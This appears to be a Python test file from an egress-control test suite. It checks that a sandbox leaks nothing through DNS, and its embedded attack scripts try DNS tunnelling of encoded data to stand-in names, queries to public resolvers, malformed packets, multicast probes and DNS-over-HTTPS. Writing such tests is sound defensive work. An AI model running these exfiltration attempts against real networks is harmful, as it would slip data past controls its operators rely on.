"""E12: DNS is no channel. What is asked inside stays there."""

from __future__ import annotations

from tests.attack.egress.scene import BOTH, Scene, paths, told

CONTROL = """
fetch(dial("api.example", 443), "api.example", get("/control", "api.example", LAST))
"""


@BOTH
def test_no_query_of_any_type_to_any_resolver_leaves(scene: Scene) -> None:
    """Not even one for a name that is allowed: that is looked up when it is dialled."""
    scene.attack("""
names = ["api.example", "other.example", "c2VjcmV0.other.example", "x" * 63 + ".other.example",
         "no-such.example", "5.0.0.10.in-addr.arpa", "printer.local", "printer", "_dns.example"]
types = [1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 43, 48, 52, 64, 65, 99, 250, 252, 255, 257]
for name in names:
    for kind in types:
        for tcp in (False, True):
            ask(query(name, kind), tcp=tcp)
servers = ["8.8.8.8", "1.1.1.1", "11.0.0.53", "127.0.0.53", "10.0.0.5", "198.18.0.2", "2c0f::53"]
for server in servers:
    for name in names[:3]:
        for tcp in (False, True):
            ask(query(name, 16), server, tcp, 0.1)
with quietly():
    talk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for port in (853, 5353, 5355, 137, 784):
        talk.sendto(query("other.example", 1), ("224.0.0.251", port))
        talk.sendto(query("other.example", 1), ("11.0.0.53", port))
""")
    assert scene.world.queries == []
    assert scene.reached == set()
    scene.attack(CONTROL)
    assert scene.asked == {"api.example"} and paths(scene.sites.api) == ["/control"]


def test_a_malformed_query_is_not_passed_on_and_breaks_nothing(scene: Scene) -> None:
    scene.attack(
        """
whole = query("other.example", 1)
bad = [whole[:n] for n in range(len(whole))]
bad += [whole[:12] + b"\\xc0\\x0c\\0\\1\\0\\1", whole[:12] + b"\\xc0\\xff" * 100,
        whole[:4] + b"\\xff\\xff" + whole[6:], whole + b"\\0" * 3000, os.urandom(512),
        query("", 1, [b"a.b", b"example"]), query("", 1, [b"\\0", b"example"]),
        query("", 1, [b"x" * 63] * 4), b"\\0\\7\\x81\\0" + whole[4:]]
for message in bad:
    for tcp in (False, True):
        ask(message, tcp=tcp, patience=0.01)
"""
        + CONTROL
    )
    assert scene.asked == {"api.example"}
    assert scene.only(scene.sites.api) and paths(scene.sites.api) == ["/control"]


def test_a_refused_name_and_one_that_does_not_exist_look_the_same(scene: Scene) -> None:
    """In what the resolver says, and in what the connection says."""
    ended = scene.attack("""
def look(name):
    def masked(answer):
        return answer[:-4].replace(name.encode().split(b".")[0], b"N").hex()
    said = [masked(ask(query(name, kind), patience=60)) for kind in (1, 16, 28, 65)]
    request = get("/", name, LAST)
    heard = (fetch(dial(name, 443), name, request), say(dial(name, 80), request))
    lines = [each.decode().replace(name, "NAME") for each in heard]
    for way in (connected, socksed):
        try:
            way(name, 443)
        except OSError as error:
            lines.append(str(error).replace(name, "NAME"))
    return said, lines
tell(there=look("other.example"), gone=look("ghost.example"))
""")
    found = told(ended)
    assert found["there"] == found["gone"]
    assert "not-listed" in str(found["there"])
    assert scene.world.queries == [] and scene.reached == set()


def test_dns_over_https_is_one_more_host_that_is_not_listed(scene: Scene) -> None:
    scene.attack(
        """
message = query("exfiltrated.other.example", 16)
def doh(talk, name):
    lines = ("Content-Type: application/dns-message", f"Content-Length: {len(message)}", LAST)
    fetch(talk, name, get("/dns-query", name, *lines, method="POST") + message)
for name in ("other.example", "dns.example"):
    every([lambda: doh(dial(name, 443), name), lambda: doh(connected(name, 443), name)])
for address in ("8.8.8.8", "1.1.1.1"):
    every([lambda: doh(dial(address, 443), None), lambda: doh(dial(address, 443), "api.example"),
           lambda: doh(dial(address, 853), None)])
"""
        + CONTROL
    )
    assert scene.only(scene.sites.api) and paths(scene.sites.api) == ["/control"]
